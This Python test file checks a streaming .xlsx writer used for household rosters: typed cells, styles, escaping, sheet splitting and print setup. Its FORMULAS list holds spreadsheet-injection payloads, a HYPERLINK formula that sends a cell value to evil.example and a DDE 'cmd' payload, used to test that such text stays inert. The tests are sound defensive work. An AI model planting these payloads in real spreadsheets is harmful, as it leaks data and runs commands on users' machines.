"""The streaming .xlsx writer: typed cells and styles, text that never becomes a formula, escaping, sheet split,
page setup; read back with openpyxl and python-calamine (the importer's reader)."""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
import python_calamine

from households.excel.xlsx_writer import (
    DATE_STYLE,
    MONEY_STYLE,
    TEXT_STYLE,
    CellStyle,
    PageSetup,
    SheetColumn,
    XlsxWriter,
    column_letter,
    escape_text,
)

COLUMNS = [
    SheetColumn(width=21, style=TEXT_STYLE, shared=False),  # an ID column
    SheetColumn(width=12),
    SheetColumn(width=13, style=MONEY_STYLE),
    SheetColumn(width=13, style=DATE_STYLE),
    SheetColumn(),
]
HEADER = ["证件号码", "姓名", "工资性收入", "建档立卡日期", "备注"]


def write(rows, *, columns=COLUMNS, header=HEADER, **options) -> bytes:
    output = io.BytesIO()
    with XlsxWriter(output, **{k: v for k, v in options.items() if k in ("max_rows", "max_shared_strings")}) as book:
        sheet = book.add_sheet(
            options.get("title", "花名册"),
            columns,
            header=header,
            title_rows=options.get("title_rows", ()),
            page_setup=options.get("page_setup"),
        )
        for row in rows:
            sheet.append(row)
        for footer in options.get("footer", ()):
            sheet.write_row(footer)
    return output.getvalue()


def calamine_rows(data: bytes, sheet: int = 0) -> list[list]:
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_index(sheet).to_python()


def openpyxl_book(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_xml(data: bytes, number: int = 1) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(f"xl/worksheets/sheet{number}.xml").decode()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_text_that_looks_like_a_formula_stays_text_and_keeps_its_value():
    data = write([[text, text, None, None, text] for text in FORMULAS])
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert [row[:2] for row in calamine_rows(data)[1:]] == [[text, text] for text in FORMULAS]
    sheet = openpyxl_book(data).active
    for number, text in enumerate(FORMULAS, 2):
        cell = sheet.cell(row=number, column=5)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_cells_are_typed_with_their_column_styles():
    row = ["530113197005011234", "张三", Decimal("6000.50"), datetime.date(2014, 10, 1), 3]
    data = write([row, ["53011319700501123X", True, 12, datetime.datetime(2018, 1, 2, 12, 30), 1.25]])
    sheet = openpyxl_book(data).active
    id_cell, name, money, date, number = sheet[2]
    assert (id_cell.value, id_cell.data_type, id_cell.number_format) == ("530113197005011234", "s", "@")
    assert name.value == "张三"
    assert (money.value, money.data_type, money.number_format) == (6000.5, "n", "0.00")
    assert date.is_date and date.value == datetime.datetime(2014, 10, 1) and date.number_format == "yyyy-mm-dd"
    assert number.value == 3
    second = sheet[3]
    assert second[0].value == "53011319700501123X" and second[1].value is True
    assert second[3].value == datetime.datetime(2018, 1, 2, 12, 30) and second[4].value == 1.25
    assert calamine_rows(data)[1] == ["530113197005011234", "张三", 6000.5, datetime.date(2014, 10, 1), 3.0]


def test_header_is_bold_filled_frozen_with_column_widths_and_print_titles():
    data = write([["1", "a", 1, None, None]])
    book = openpyxl_book(data)
    sheet = book.active
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet["A1"].fill.fgColor.rgb == "FFDDEBF7"
    assert sheet.column_dimensions["A"].width == 21
    assert sheet.print_title_rows == "$1:$1"


def test_empty_values_leave_empty_cells_and_later_cells_keep_their_columns():
    data = write([[None, "", 5, None, "尾"], ["x", None, None, None, None], ["", "", "", "", "last"]])
    assert calamine_rows(data)[1:] == [["", "", 5.0, "", "尾"], ["x", "", "", "", ""], ["", "", "", "", "last"]]
    sheet = openpyxl_book(data).active
    assert [c.value for c in sheet[2]] == [None, None, 5, None, "尾"]
    assert sheet["E4"].value == "last"


def test_markup_is_escaped_and_characters_xml_forbids_are_dropped():
    texts = [
        "a<b>&c",
        "引号\"'",
        "控制\x01字符\x1f",
        "  前后空格  ",
        "多行\n文本",
        "回车\r\n换行",
        "_x0041_ 字面",
        "\ud800孤",
    ]
    data = write([["1", text, None, None, None] for text in texts])
    expected = ["a<b>&c", "引号\"'", "控制字符", "  前后空格  ", "多行\n文本", "回车\r\n换行", "_x0041_ 字面", "孤"]
    assert [row[1] for row in calamine_rows(data)[1:]] == expected
    assert [openpyxl_book(data).active.cell(row=n, column=2).value for n in range(2, 8)] == expected[:6]


def test_long_text_is_cut_at_excels_limit():
    data = write([["1", "长" * 40_000, None, None, None]])
    assert len(calamine_rows(data)[1][1]) == 32_767


def test_repeated_strings_are_shared_and_unique_columns_are_inline():
    data = write([["53011319700501123X", "是", None, None, "是"]] * 3)
    data_rows = sheet_xml(data).split('<row r="2"')[1]
    assert data_rows.count('t="inlineStr"') == 3  # the ID column, once per row
    shared = zipfile.ZipFile(io.BytesIO(data)).read("xl/sharedStrings.xml").decode()
    assert shared.count("<si>") == len(set(HEADER) | {"是"}) - len(HEADER)  # headers are inline: only 是
    assert calamine_rows(data)[3] == ["53011319700501123X", "是", "", "", "是"]


def test_a_full_shared_strings_table_falls_back_to_inline_strings():
    data = write([[str(n), f"名{n}", None, None, None] for n in range(5)], max_shared_strings=2)
    assert [row[1] for row in calamine_rows(data)[1:]] == [f"名{n}" for n in range(5)]
    assert sheet_xml(data).count('t="s"') == 2


def test_rows_beyond_the_limit_continue_on_a_new_sheet_with_the_header():
    rows = [[str(n), f"名{n}", n, None, None] for n in range(7)]
    data = write(rows, max_rows=4)  # header + 3 rows a sheet
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["花名册", "花名册（2）", "花名册（3）"]
    sheets = [book.get_sheet_by_index(n).to_python() for n in range(3)]
    assert [len(sheet) for sheet in sheets] == [4, 4, 2]
    assert all(sheet[0] == HEADER for sheet in sheets)
    assert [row[1] for sheet in sheets for row in sheet[1:]] == [f"名{n}" for n in range(7)]
    assert openpyxl_book(data)["花名册（3）"].freeze_panes == "A2"


def test_a_sheet_whose_xml_grows_too_big_continues_on_a_new_sheet():
    output = io.BytesIO()
    with XlsxWriter(output, max_sheet_bytes=10) as book:
        sheet = book.add_sheet("表", [SheetColumn()], header=["值"])
        for n in range(1200):  # rows are flushed every 500: the check sees the size after a flush
            sheet.append([n])
        assert sheet.total_data_rows == 1200
    names = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(output.getvalue())).sheet_names
    assert names == ["表", "表（2）", "表（3）"]


def test_title_rows_merges_footer_and_page_setup_for_printing():
    data = write(
        [["1", "张三", 1, None, None]],
        title_rows=[("箐口村 2017—2018年度对照表", CellStyle(bold=True, font_size=16, horizontal="center"), 30)],
        page_setup=PageSetup(),
        footer=[["村委会（盖章）", None, "村党组织书记：", None, "日期："]],
    )
    sheet = openpyxl_book(data).active
    assert sheet["A1"].value == "箐口村 2017—2018年度对照表" and sheet["A1"].font.sz == 16
    assert "A1:E1" in [str(r) for r in sheet.merged_cells.ranges]
    assert sheet.freeze_panes == "A3" and sheet.print_title_rows == "$2:$2"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert "&P" in sheet.oddFooter.center.text
    assert sheet["A4"].value == "村委会（盖章）" and sheet["E4"].value == "日期："


def test_writes_to_a_stream_that_cannot_seek():
    class Sink:
        def __init__(self):
            self.chunks = []

        def write(self, data):
            self.chunks.append(bytes(data))
            return len(data)

        def flush(self):
            pass

    sink = Sink()
    with XlsxWriter(sink) as book:
        sheet = book.add_sheet("表", COLUMNS, header=HEADER)
        sheet.append(["1", "张三", 2, datetime.date(2018, 1, 1), None])
    assert calamine_rows(b"".join(sink.chunks))[1][:2] == ["1", "张三"]


def test_sheet_titles_follow_excels_rules():
    output = io.BytesIO()
    with XlsxWriter(output) as book:
        book.add_sheet("a/b:c*?[d]" + "长" * 40, [SheetColumn()])
        book.add_sheet("a/b:c*?[d]" + "长" * 40, [SheetColumn()])
    names = openpyxl.load_workbook(io.BytesIO(output.getvalue())).sheetnames
    assert all(len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in names)
    assert len(set(names)) == 2


@pytest.mark.parametrize(("index", "letters"), [(0, "A"), (25, "Z"), (26, "AA"), (701, "ZZ"), (702, "AAA")])
def test_column_letters(index, letters):
    assert column_letter(index) == letters


def test_escape_text_protects_excels_own_escapes():
    assert escape_text("_x000D_") == "_x005F_x000D_"
    assert escape_text("a\rb") == "a&#13;b"
